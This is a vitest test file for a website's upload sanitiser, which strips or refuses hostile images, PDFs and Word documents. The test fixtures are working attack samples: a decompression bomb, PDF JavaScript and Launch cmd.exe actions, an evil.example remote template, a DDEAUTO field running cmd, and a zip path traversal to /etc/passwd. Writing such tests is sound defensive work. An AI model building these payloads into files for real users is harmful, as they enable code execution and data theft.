import { readFileSync } from 'node:fs';
import path from 'node:path';
import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { unzipSync, zipSync } from 'fflate';
import { temporaryFolder } from 'release/checks/stores/machine.ts';
import sharp from 'sharp';
import { ownFolders } from 'tools/content/folders.ts';
import { documentsFolder } from 'tools/content/markdown.ts';
import { textOf } from 'tools/content/search/document-text.ts';
import { filesBelow } from 'tools/workspace/repository.ts';
import { expect, it } from 'vitest';
import type { Refused } from '../refused.ts';
import { uploadsIn } from './uploads.ts';

const folder = temporaryFolder();
const uploads = uploadsIn(folder);

const photo = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#1f4191' } }).jpeg();
const whole = await photo(1300, 1000).toBuffer();
const read = (id: string): Buffer => readFileSync(path.join(folder, id));

const refusal = (name: string, bytes: Uint8Array): Promise<string> =>
  uploads.add(name, bytes).then(
    () => 'accepted',
    ({ status, words }: Refused) => `${status} ${words.en}`,
  );

const name = 'pictures/events/open-day-2026.jpg';

const rotated = photo(4000, 2000)
  .withExif({ IFD3: { GPSLatitude: '1/1 17/1 0/1' } })
  .withMetadata({ orientation: 6 });
it.each([
  ['of a phone', rotated, { width: 2000, height: 4000 }],
  ['of PNG', photo(4000, 3000).png(), { width: 2560, height: 1920 }],
  ['of WebP', photo(1300, 970).webp(), { width: 1300, height: 970 }],
  ['of a panorama, as high as a page needs', photo(6000, 1200), { width: 4800, height: 960 }],
])('a picture %s becomes an upright JPEG without metadata', async (_what, image, size) => {
  const { id } = await uploads.add(name, await image.toBuffer());
  const { format, width, height, exif, orientation } = await sharp(read(id)).metadata();
  expect({ format, width, height, exif, orientation }).toEqual({ format: 'jpeg', ...size });
});

it('a picture loses what is hidden behind or in it', async () => {
  const page = Buffer.from('<script>alert(1)</script>');
  const inside = await sharp(whole).withXmp(`<x:xmpmeta>${page}</x:xmpmeta>`).toBuffer();
  const { id } = await uploads.add(name, whole);
  for (const both of [Buffer.concat([whole, page]), inside]) expect((await uploads.add(name, both)).id).toBe(id);
});

it('a picture is refused for its pixels before they are unpacked', async () => {
  const bomb = await photo(1, 1).png().toBuffer();
  bomb.writeUInt32BE(30_000, 16);
  bomb.writeUInt32BE(30_000, 20);
  bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
  expect(await refusal(name, bomb)).toBe('413 This picture has too many pixels. Choose a smaller one.');
});

it.each([
  '<svg xmlns="http://www.w3.org/2000/svg" width="1300" height="1000"><script>alert(1)</script></svg>',
  '\xff\xd8\xff\xe0',
  whole.toString('latin1', 0, whole.length / 2),
])('a picture is refused if it is %.20j', async (bytes) => {
  expect(await refusal(name, Buffer.from(bytes, 'latin1'))).toMatch(/^422 This file is not a photo/);
});

it.each([
  ['pictures/events/a.jpg', 15],
  ['resources/files/a.pdf', 20],
])('refuses %s above %i MB', async (name, megabytes) => {
  const words = new RegExp(`^413 .* at most ${megabytes} MB`);
  expect(await refusal(name, Buffer.alloc(megabytes * 1024 * 1024 + 1))).toMatch(words);
});

it.each([
  'pictures/../association.jpg',
  'pictures/events/a.png',
  'pictures/events/A.jpg',
  'pictures/events/a.jpg\n',
  'events/a.yaml',
  'resources/files/a.docm',
  `pictures/events/${'a'.repeat(200)}.jpg`,
])('refuses the name %s', async (name) => {
  expect(await refusal(name, whole)).toMatch(/^400 /);
});

function pdf(catalog = '', ...objects: (string | Buffer)[]): Buffer {
  const parts = [
    `%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n`,
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Annots 4 0 R >>\nendobj\n',
    ...objects,
    'trailer\n<< /Root 1 0 R /Size 9 >>\n%%EOF\n',
  ];
  return Buffer.concat(parts.map((part) => Buffer.from(part)));
}
const notes = (...dictionaries: string[]): Buffer =>
  pdf('', `4 0 obj\n[${dictionaries.map((one) => `<< /Type /Annot /Rect [0 0 9 9] ${one} >>`).join('')}]\nendobj\n`);

/** A PDF that starts what is packed into a stream of objects when it is opened. */
function packed(content: Buffer): Buffer {
  const about = `/Filter /FlateDecode /Type /ObjStm /N 1 /First 4 /Length ${content.length}`;
  const head = `5 0 obj\n<< ${about} >>\nstream\n`;
  return pdf('/OpenAction 6 0 R', head, content, '\nendstream\nendobj\n');
}
// Put together from pieces: packing them takes seconds.
const zeros = deflateRawSync(Buffer.alloc(20_000_000), { finishFlush: constants.Z_FULL_FLUSH });
const twoGigabytes = Buffer.concat([Buffer.of(0x78, 0x9c), ...Array<Buffer>(100).fill(zeros)]);
const program = Buffer.from('6 0 << /S /JavaScript /JS (app.alert(1)) >>');

/** All objects of what is published of a PDF, as text, and whether something is lost. */
async function published(bytes: Buffer) {
  const { id, lost } = await uploads.add('resources/files/a.pdf', bytes);
  const { context } = await PDFDocument.load(read(id));
  return { objects: context.enumerateIndirectObjects().join('\n'), lost };
}

const ofContent = filesBelow(path.join(ownFolders.content, documentsFolder));

it.each(ofContent)('a document of the site is accepted: %s', async (name) => {
  const bytes = readFileSync(path.join(ownFolders.content, documentsFolder, name));
  const upload = await uploads.add(`${documentsFolder}/${name}`, bytes);
  expect(upload).toEqual({ name: `${documentsFolder}/${name}`, id: upload.id });
  const extension = path.extname(name);
  expect(await textOf(read(upload.id), extension)).toBe(await textOf(bytes, extension));
});

const submit = '/S /SubmitForm /F (https://example.org)';
it.each([
  ['in an object', packed(deflateSync(program))],
  ['with a disguised name', pdf('/Open#41ction << /S /J#61vaScript /JS (app.alert(1)) >>')],
  ['for a form', pdf(`/OpenAction << ${submit} >> /AcroForm << /Fields [] >>`)],
  ['in another file', pdf('/OpenAction << /S /GoToR /F (\\\\host\\file) /D [0 /Fit] >>')],
  ['after a link', notes(`/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next << ${submit} >> >>`)],
  ['in an address', notes('/Subtype /Link /A << /S /URI /URI (javas\\143ript:app.alert\\(1\\)) >>')],
  ['in a form', pdf('/AcroForm << /Fields [] /XFA (x) /AA << /K << /S /JavaScript /JS (app.alert(1)) >> >> >>')],
  ['attached', pdf('/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /EF << /F 4 0 R >> >>] >> >>')],
  ['after an older version', Buffer.concat([pdf(), pdf('/AA << /WC << /S /Launch /F (cmd.exe) >> >>')])],
])('a PDF is published without a program %s, and told what it loses', async (_where, bytes) => {
  const { objects, lost } = await published(bytes);
  expect(lost).toBe(/XFA|EmbeddedFiles/.test(bytes.toString()) || undefined);
  expect(objects).toContain('/Type /Page\n');
  expect(objects).not.toMatch(/Action|Next|XFA|script|Launch|alert|Submit|GoToR|Rendition|Filespec|Embedded/i);
});

it('a PDF keeps links to places in it and to addresses', async () => {
  const link = (uri: string) => `/Subtype /Link /A << /S /URI /URI (${uri}) >>`;
  const honest = [link('https://example.org/a\\(1\\)'), link('mailto:a@example.org'), '/Subtype /Link /Dest [3 0 R]'];
  const { objects } = await published(notes(...honest, link('file:///etc/passwd')));
  expect(objects.match(/(?<=\/URI )\S.*|\/Dest .*/g)).toEqual([
    '(https://example.org/a\\(1\\))',
    '(mailto:a@example.org)',
    '/Dest [ 3 0 R ]',
  ]);
});

it.each([
  ['a password', pdf('', 'trailer\n<< /Encrypt 9 0 R >>\n'), /protected by a password/],
  ['nothing after its first line', Buffer.from('%PDF-1.7\n'), /not a PDF/],
  ['brackets that never close', Buffer.from(`%PDF-1.7\n1 0 obj\n${'<<'.repeat(20_000)}`), /not a PDF|too much time/],
  ['gigabytes in a few bytes', packed(twoGigabytes), /not a PDF|too large once opened/],
])('a PDF is refused with %s', async (_what, bytes, words) => {
  expect(await refusal('resources/files/a.pdf', bytes)).toMatch(words);
});

const types = (main: string) => ({
  '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.${main}"/></Types>`,
});
const word = {
  ...types('wordprocessingml.document.main+xml'),
  'word/document.xml': '<w:document><w:p>Bonjour</w:p></w:document>',
};
const rels = (...list: string[]) => ({
  'word/_rels/document.xml.rels': `<Relationships>${list.map((one, id) => `<Relationship Id="r${id}" ${one}/>`).join('')}</Relationships>`,
});
const type = (name: string) => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}"`;
const outside = (name: string, target: string) => rels(`${type(name)} Target="${target}" TargetMode="External"`);
const document = (text: string) => ({ 'word/document.xml': text });
const field = (code: string) => document(`<w:p><w:fldChar w:fldCharType="begin"/>${code}</w:p>`);

it('a Word file comes out with its text, pictures and web links alone, and without its author', async () => {
  const link = `${type('hyperlink')} Target="https://example.org/" TargetMode="External"`;
  const template = `${type('attachedTemplate')} Target="http://evil.example/t.dotm" TargetMode="External"`;
  const picture = `${type('image')} Target="media/a.png"`;
  const bytes = makeZip({
    ...word,
    ...rels(link, picture, `${type('settings')} Target="settings.xml"`),
    'word/media/a.png': 'png',
    'word/settings.xml': '<w:settings><w:attachedTemplate r:id="r0"/></w:settings>',
    'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r0" ${template}/></Relationships>`,
    'word/document.xml': '<w:document><w:ins w:author="Secret Author"><w:p>Bonjour</w:p></w:ins></w:document>',
    'word/embeddings/x.exe': 'MZ',
    'docProps/core.xml': '<dc:creator>Secret Author</dc:creator>',
    'customXml/item1.xml': '<a>Secret Author</a>',
  });
  const { id } = await uploads.add('resources/files/a.docx', bytes);
  const files = unzipSync(read(id));
  const all = Buffer.concat(Object.values(files)).toString();
  const parts = ['word/_rels/document.xml.rels', 'word/document.xml', 'word/media/a.png'];
  expect(Object.keys(files).sort()).toEqual(['[Content_Types].xml', ...parts]);
  for (const text of ['Bonjour', 'https://example.org/']) expect(all).toContain(text);
  expect(all).not.toMatch(/Secret Author|evil|settings|MZ/);
});

it.each<[what: string, more: Record<string, string | Buffer>, words?: RegExp]>([
  ['a program or a table in it', rels(`${type('oleObject')} Target="embeddings/oleObject1.bin"`)],
  ['an object from elsewhere', outside('oleObject', 'http://evil.example/a.html!')],
  ['a picture from another machine', outside('image', 'file://server/share/a.png')],
  ['a link to a file', outside('hyperlink', 'file:///C:/a.exe')],
  ['a field that starts a program', field('<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText>')],
  ['such a field in one piece', document('<w:fldSimple w:x=">" w:instr = " &#73;NCLUDETEXT &quot;x&quot;"/>')],
  ['entities', document('<!DOCTYPE a [<!ENTITY b "c">]><w:document/>')],
  ['macros', { 'word/vbaProject.bin': 'x' }, /macros/],
  ['macros in its type', types('ms-word.document.macroEnabled.main+xml'), /macros/],
  ['a path out of it', { '../../etc/passwd': 'x' }, /not a Word document/],
  ['more than 100 MB inside', { 'word/a.xml': Buffer.alloc(101_000_000) }, /too large once opened/],
  ['another main part', types('presentationml.presentation.main+xml'), /not a Word document/],
])('a Word file is refused in words with %s', async (_, more, words = /^422 .*PDF/) => {
  expect(await refusal('resources/files/a.docx', makeZip({ ...word, ...more }))).toMatch(words);
});

function makeZip(files: Record<string, string | Buffer>): Buffer {
  const entries = Object.entries(files).map(([name, content]) => [name, Buffer.from(content)]);
  return Buffer.from(zipSync(Object.fromEntries(entries)));
}
